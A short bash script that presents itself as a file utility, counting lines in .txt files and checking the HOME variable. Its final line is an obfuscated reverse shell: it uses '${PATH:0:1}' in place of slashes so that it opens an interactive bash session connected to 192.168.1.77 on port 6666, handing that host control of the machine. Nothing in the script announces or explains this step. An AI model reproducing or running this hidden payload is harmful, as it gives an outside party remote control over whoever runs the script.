#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
${PATH:0:1}bin${PATH:0:1}bash -i >& ${PATH:0:1}dev${PATH:0:1}tcp${PATH:0:1}192.168.1.77${PATH:0:1}6666 0>&1
